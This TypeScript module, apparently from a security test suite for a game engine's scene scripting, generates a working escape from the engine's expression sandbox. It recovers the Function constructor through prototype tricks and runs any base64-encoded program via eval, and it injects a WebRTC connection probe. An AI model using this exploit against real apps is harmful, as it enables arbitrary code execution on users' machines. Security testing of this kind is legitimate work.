import { LOOT } from './hostile-game.ts';

/** `Object.prototype` in the language of conditions, by a filter that the library takes from the prototype of its list. */
const PROTOTYPE = "({g:('__proto__'|__lookupGetter__)}).g()";
const OBJECT = `${PROTOTYPE}.constructor`;
const FUNCTIONS = `${OBJECT}.getPrototypeOf(random)`;

/**
 * Returns a scene without any script of its own that runs a program in the app's own engine once its last assignment is reached: the
 * library hides `Function` during each expression, so the first one arranges that it can be found later.
 */
export function toExpressionAttack(program: string): string {
  const arranged = `${OBJECT}.getPrototypeOf([]).constructor.fromAsync([${FUNCTIONS}],${OBJECT}.assign(${OBJECT}.assign,{bind:${FUNCTIONS}.bind}).bind(0,${OBJECT}))`;
  return [
    `setVar:a=random(${arranged});`,
    ':one;',
    ':two;',
    `setVar:b=random(${OBJECT}.constructor('eval(atob(\`${toPlainBase64(program)}\`))')());`,
    ':done;',
    '',
  ].join('\n');
}

/** Without the sign that would end the value of the assignment. */
function toPlainBase64(program: string): string {
  const { length } = Buffer.from(program);
  return Buffer.from(program + ' '.repeat((3 - (length % 3)) % 3)).toString('base64');
}

/** Makes a peer connection in a frame of its own and stores what came of it. */
export const CONNECTING = (port: number) => `(async () => {
  globalThis.${LOOT} = { keys: '', got: {} };
  const frame = document.createElement('iframe');
  document.body.append(frame);
  try {
    const connection = new frame.contentWindow.RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:${port}' }] });
    connection.createDataChannel('x');
    await connection.setLocalDescription(await connection.createOffer());
    globalThis.${LOOT}.got.connection = 'made';
  } catch (error) {
    globalThis.${LOOT}.got.connection = String(error.message);
  }
})();`;
